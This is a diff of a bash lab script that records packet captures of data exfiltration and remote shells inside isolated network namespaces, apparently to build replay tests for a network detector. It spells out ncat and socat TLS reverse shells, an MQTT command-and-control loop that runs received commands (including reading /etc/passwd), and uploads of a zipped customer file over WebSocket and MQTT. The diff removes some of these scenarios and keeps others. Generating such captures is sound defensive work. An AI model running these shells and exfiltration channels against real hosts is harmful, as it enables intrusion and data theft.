@@ -3,12 +3,12 @@
 # carriers.sh SCENARIO...|all|list: data and shells in carriers that hide them, by packaged programs, between the namespaces of
 # ns.sh, recorded at the gateway into tests/replay/<scenario>/input.pcap.
 #
-# Needs root and (Debian names): tcpdump openssl socat ncat zip python3 python3-websockets mosquitto mosquitto-clients sshuttle
-# openssh-server curl.
+# Needs root and (Debian names): tcpdump openssl socat ncat zip python3 python3-websockets mosquitto mosquitto-clients
+# curl.
 set -eu
 export XFL_PREFIX=${XFL_PREFIX:-car}
-all=(socket_upload socket_upload_plain socket_words socket_shell socket_cards benign_sockets
-    tls13_shell tls13_shell_openssl tls13_socat tls13_socat_443 benign_tls13 sshuttle mqtt_file mqtt_words mqtt_shell benign_mqtt noise_wg noise_53 noise_stun)
+all=(socket_upload socket_words socket_shell benign_sockets tls13_shell tls13_shell_openssl benign_tls13
+    mqtt_file mqtt_words benign_mqtt)
 # shellcheck source=tests/lab/lab.sh
 . "$(dirname "$0")/lab.sh"
 far=203.0.113.24
@@ -23,11 +23,9 @@ ws_server() { # port [mode]
 }
 
 prepare() {
-    mkdir -p "$dir/www" /run/sshd
     openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj '/CN=server' -keyout "$dir/tls.key" -out "$dir/tls.crt" 2>/dev/null
     cat "$dir/tls.key" "$dir/tls.crt" >"$dir/tls.pem"
     python3 "$here/customers.py" 1500 >"$dir/customers.csv"
-    python3 "$here/customers.py" 200 >"$dir/few.csv"
     (cd "$dir" && zip -q -P secret sealed.zip customers.csv)
     head -c 40000 /dev/zero | openssl enc -aes-256-ctr -nosalt -pbkdf2 -k "noise" 2>/dev/null >"$dir/noise"
     { printf '\211PNG\r\n\032\n' && head -c 6000 "$dir/noise"; } >"$dir/picture.png"
@@ -37,10 +35,6 @@ socket_upload() { # an encrypted archive in binary messages of a WebSocket that 
     ws_server 8080
     ws upload "ws://$far:8080/ws" "$dir/sealed.zip"
 }
-socket_upload_plain() {
-    ws_server 8080
-    ws upload "ws://$far:8080/plain" "$dir/sealed.zip"
-}
 socket_words() { # the same in base64 in texts
     ws_server 8080
     ws words "ws://$far:8080/ws" "$dir/sealed.zip"
@@ -48,10 +42,6 @@ socket_words() { # the same in base64 in texts
 socket_shell() {
     ws_server 8080 shell
     ws shell "ws://$far:8080/ws"
-}
-socket_cards() { # customers with cards in the clear within a compressed WebSocket
-    ws_server 8080
-    ws upload "ws://$far:8080/ws" "$dir/few.csv"
 }
 benign_sockets() {
     ws_server 8080 page
@@ -61,16 +51,6 @@ benign_sockets() {
 
 # shellcheck disable=SC2016 # for the shell at the far end
 commands='for c in id whoami "uname -a" pwd "ls -l /" "cat /etc/hostname" "ps aux" "ls -la /var" "df" "w"; do echo "$c"; sleep 1.3; done'
-tls13_socat() { # a shell within TLS 1.3
-    bg socat "${srv[@]}" sh -c "($commands) | socat - OPENSSL-LISTEN:6607,bind=$far,reuseaddr,cert=$dir/tls.pem,verify=0"
-    sleep 0.5
-    "${cli[@]}" timeout 20 socat "OPENSSL:$far:6607,verify=0" EXEC:/bin/sh || true
-}
-tls13_socat_443() { # the same on the port of the web
-    bg socat "${srv[@]}" sh -c "($commands) | socat - OPENSSL-LISTEN:443,bind=$far,reuseaddr,cert=$dir/tls.pem,verify=0"
-    sleep 0.5
-    "${cli[@]}" timeout 20 socat "OPENSSL:$far:443,verify=0" EXEC:/bin/sh,pty,stderr,setsid || true
-}
 tls13_shell() { # a shell that ncat has brought to somebody within TLS 1.3
     bg ncat "${srv[@]}" sh -c "($commands) | ncat --ssl -n -l $far 7443"
     sleep 0.7
@@ -89,21 +69,6 @@ benign_tls13() { # a program without a name asks again and again; another is pin
     "${cli[@]}" timeout 14 socat "OPENSSL:$far:5223,verify=0" "SYSTEM:while read x y; do echo pong \$y; done" || true
 }
 
-sshuttle() {
-    ssh-keygen -q -t ed25519 -N '' -f "$dir/hostkey"
-    ssh-keygen -q -t ed25519 -N '' -f "$dir/key"
-    cp "$dir/key.pub" "$dir/authorized"
-    printf 'ListenAddress %s:22\nHostKey %s/hostkey\nUsePAM no\nPidFile none\nStrictModes no\nAuthorizedKeysFile %s/authorized\n' $far "$dir" "$dir" >"$dir/sshd.conf"
-    bg sshd "${srv[@]}" /usr/sbin/sshd -D -e -f "$dir/sshd.conf"
-    bg web "${srv[@]}" python3 -m http.server -b 203.0.113.21 -d "$dir" 80
-    bg sink "${srv[@]}" socat -u TCP-LISTEN:9000,bind=203.0.113.21,fork OPEN:/dev/null
-    sleep 1
-    bg sshuttle "${cli[@]}" /usr/bin/sshuttle --method nft -e "ssh -i $dir/key -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null" -r root@$far 203.0.113.21/32
-    sleep 5
-    for _ in 1 2 3 4 5; do "${cli[@]}" curl -s -m 4 -o /dev/null http://203.0.113.21/customers.csv || true; sleep 0.5; done
-    "${cli[@]}" timeout 6 socat -u "OPEN:$dir/noise" TCP:203.0.113.21:9000 || true
-}
-
 broker() { # where
     printf 'user root\nlistener 1883 %s\nallow_anonymous true\n' "$far" >"$dir/mosquitto.conf"
     bg mosquitto "${srv[@]}" mosquitto -c "$dir/mosquitto.conf"
@@ -119,12 +84,6 @@ mqtt_words() { # base64, a line a message, on one connection, with a password
     broker
     base64 -w 700 "$dir/sealed.zip" | "${cli[@]}" timeout 20 mosquitto_pub -h $far -u dev7 -P hunter2 -t log/7 -l || true
 }
-mqtt_shell() { # orders by one topic, answers by another
-    broker
-    bg agent "${cli[@]}" sh -c "mosquitto_sub -h $far -t a/7/in | while read c; do sh -c \"\$c\" 2>&1 | mosquitto_pub -h $far -t a/7/out -s; done"
-    sleep 0.7
-    for c in id whoami "uname -a" "ls -l /" "cat /etc/passwd" "ps aux" nosuch; do "${srv[@]}" mosquitto_pub -h $far -t a/7/in -m "$c"; sleep 0.7; done
-}
 benign_mqtt() { # sensors that tell what they measure, and one with pictures
     broker
     for i in $(seq 40); do
@@ -133,23 +92,5 @@ benign_mqtt() { # sensors that tell what they measure, and one with pictures
     seq -f '{"power":%g,"volt":230.1,"phase":"a"}' 100 | "${cli[@]}" timeout 10 mosquitto_pub -h $far -t plant/line -l || true
     for _ in 1 2 3 4 5; do "${cli[@]}" mosquitto_pub -h $far -t door/picture -f "$dir/picture.png" || true; done
 }
-
-noise() { # port bytes answer-every
-    bg far "${srv[@]}" /usr/bin/python3 -c "
-import socket
-s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('$far', $1))
-n = 0
-while True:
-    d, a = s.recvfrom(2048)
-    n += 1
-    if n % $3 == 0: s.sendto(n.to_bytes(4, 'big'), a)
-"
-    sleep 0.5
-    head -c "$2" /dev/zero | openssl enc -aes-256-ctr -nosalt -pbkdf2 -k sealed 2>/dev/null |
-        "${cli[@]}" timeout 30 socat -u -b 1200 STDIN "UDP:$far:$1" || true
-}
-noise_wg() { noise 51820 3000000 16; }
-noise_53() { noise 53 3000000 16; }
-noise_stun() { noise 3478 3000000 16; }
 
 run_lab "$@"
